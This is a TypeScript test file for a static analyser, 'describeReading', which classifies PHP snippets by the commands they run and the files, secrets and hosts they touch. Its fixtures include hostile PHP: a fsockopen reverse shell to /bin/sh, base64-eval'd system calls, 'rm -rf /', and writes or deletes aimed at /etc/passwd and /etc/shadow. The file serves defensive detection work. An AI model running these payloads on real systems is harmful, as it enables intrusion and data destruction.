import assert from 'node:assert/strict';
import test from 'node:test';
import { describeReading } from './testing/describe-reading.ts';

test('understands code that only computes', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['echo PHP_VERSION;', 'ok'],
    ['echo json_encode(["a" => 1]);', 'ok'],
    ['foreach ([1, 2] as $x) { echo $x * 2, "\\n"; }', 'ok'],
    ['print_r(array_map(fn($x) => $x * 2, [1, 2]));', 'ok'],
    ['echo date("Y");', 'ok'],
    ['function f($a) { return $a + 1; } echo f(1);', 'ok'],
    ['$f = function ($x) { return $x; }; echo $f(1);', 'ok'],
    ['echo implode(",", array_filter([1, 0], "is_numeric"));', 'ok'],
    ['var_dump(extension_loaded("curl"));', 'ok'],
    ['echo "a $x b";', 'ok'],
    ["echo strtoupper('it\\'s'), PHP_EOL;", 'ok'],
    ['echo getenv("HOME");', 'ok'],
    ['printf("%s", phpversion());', 'ok'],
    ['echo (new DateTime())->format("c");', 'ok'],
    ['echo file_get_contents("php://stdin");', 'ok'],
    ['echo "$", "{$x}", "${x}";', 'ok'],
    ['echo $a & $b;', 'ok'],
    ['echo 1 /* a */, 2; # b', 'ok'],
    ['class A { public function go() { return 1; } } echo (new A)->go();', 'ok'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('php', code), expected, code);
});

test('notes what is run, read, written and fetched', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['echo shell_exec("/path/to/command");', 'ok shell=/path/to/command'],
    ['SYSTEM("id");', 'ok shell=id'],
    ['\\system("id");', 'ok shell=id'],
    ['exec("/bin/sh -i 0<&3 1>&3 2>&3");', 'ok shell=/bin/sh -i 0<&3 1>&3 2>&3'],
    ['echo `id`;', 'ok shell=id'],
    ['passthru("l" . "s");', 'ok shell=ls'],
    ['pcntl_exec("/bin/sh");', 'ok shell=/bin/sh'],
    ['file_put_contents("/x", "DATA");', 'ok write=/x'],
    [
      '$c = file_get_contents("http://a.example/x"); file_put_contents("/o", $c);',
      'ok fetch=http://a.example/x write=/o',
    ],
    ['unlink("a.txt");', 'ok delete=a.txt'],
    ['include "x.php";', 'ok script=x.php'],
    ['eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));', 'ok shell=id'],
    [
      '$h=@popen("/bin/sh -i","r"); if($h){ while(!feof($h)) echo(fread($h,4096)); pclose($h); }',
      'ok shell=/bin/sh -i',
    ],
    ['fopen("a", "w");', 'ok write=a'],
    [
      '$sock=fsockopen("10.0.0.1",4242);$proc=proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);',
      'no connect=10.0.0.1 shell=/bin/sh -i',
    ],
    ['echo getenv("DB_PASSWORD");', 'ok secret=DB_PASSWORD'],
    ['copy("a", "b"); rename("c", "d"); chmod("e", 0777);', 'ok read=a write=b delete=c write=d mode=e'],
    ['system(strrev("di"));', 'ok shell=id'],
    ['system(strrev("édi"));', 'ok shell=?'],
    ['system(strrev($x));', 'ok shell=?'],
    ['file_put_contents(trim(" /etc/passwd"), "x");', 'ok write=?'],
    ['file_put_contents(chr(057) . "etc/passwd", "x");', 'ok write=?'],
    ['class A { function system() {} } system("id");', 'ok shell=id'],
    ['unlink("\\u{2f}etc"); unlink("\\x2fetc"); unlink("\\057etc");', 'ok delete=? delete=/etc delete=/etc'],
    ['system("echo \\\' ; rm -rf / \\\'");', 'ok shell=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('php', code), expected, code);
});

test('does not understand what leads out of plain data', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['$f = "system"; $f("ls");', 'no shell=ls'],
    ['"system"("ls");', 'no shell=ls'],
    ['array_map("system", ["ls"]);', 'no'],
    ['echo "{$f(1)}";', 'no'],
    ['$$a = "b";', 'no'],
    ['new ReflectionFunction("system");', 'no'],
    ['call_user_func($x, 1);', 'no'],
    ['$x = base64_decode("c3lzdGVt"); $x("id");', 'no shell=id'],
    ['unserialize($x);', 'no'],
    ['unknown_function();', 'no'],
    ['echo 1 ?> <?php system("id");', 'no shell=id'],
    ['$GLOBALS["a"]();', 'no'],
    ["function g() { global $f; $f('ls'); } $f = function () {}; $f = 'system'; g();", 'no'],
    ['echo "${system(\'id\')}";', 'ok shell=id'],
    ['$a = &$b;', 'no'],
    ['array_push(&$x);', 'no'],
    ['echo 1, &$x; $y = [1 => &$x];', 'no'],
    ['$x = new $y;', 'no'],
    ['echo <<<X\nX;', 'no'],
    ['#[A] function f() {}', 'no'],
    ['\\A\\b();', 'no'],
    ['echo file_get_contents("compress.zlib:///etc/shadow");', 'no opaque=?'],
    ['class A { function ssh2_exec() {} } ssh2_exec($a, "id");', 'no'],
    ["create_function('$a', 'system(\"id\");');", 'ok shell=id'],
    ["spl_autoload_register('system'); class_exists('id');", 'no'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('php', code), expected, code);
});

test('follows no constant that may be changed under any name', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["$p='/tmp/x'; function f($p) { unlink($p); } f('/etc/passwd');", 'ok delete=?'],
    ["$p='/tmp/x'; foreach(['/etc/passwd'] as $p) unlink($p);", 'ok delete=?'],
    ["$p='/tmp/x'; $p .= '/../../etc/passwd'; unlink($p);", 'ok delete=?'],
    ["$p='/tmp/x'; $p[0]='z'; unlink($p);", 'ok delete=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('php', code), expected, code);
});
